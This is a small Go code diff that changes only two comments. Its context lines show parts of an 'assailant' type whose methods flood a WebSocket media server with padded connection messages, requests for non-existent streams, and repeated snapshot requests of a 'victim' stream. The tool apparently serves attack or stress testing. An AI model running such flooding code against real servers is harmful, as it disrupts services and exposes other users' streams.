@@ -78,7 +78,7 @@ func (a *assailant) roomUser() []byte {
 	return message("connection", map[string]any{"appKey": "rooms", "custom": map[string]any{"login": fmt.Sprintf("%0100d", a.attempts.Load())}})
 }
 
-// askNames asks for streams that do not exist.
+// askNames requests streams that do not exist.
 func (a *assailant) askNames() error {
 	return a.flooding("defaultApp", func(ws *websocket.Conn) error {
 		name := fmt.Sprintf("%0200d", a.attempts.Load())
@@ -143,7 +143,7 @@ func (a *assailant) askToBeKept() error {
 	return err
 }
 
-// takePictures asks for pictures of the victim's stream.
+// takePictures requests pictures of the victim's stream.
 func (a *assailant) takePictures() error {
 	return a.flooding("defaultApp", inTurn(message("snapshot", map[string]any{"mediaSessionId": "picture", "name": victimStream})))
 }
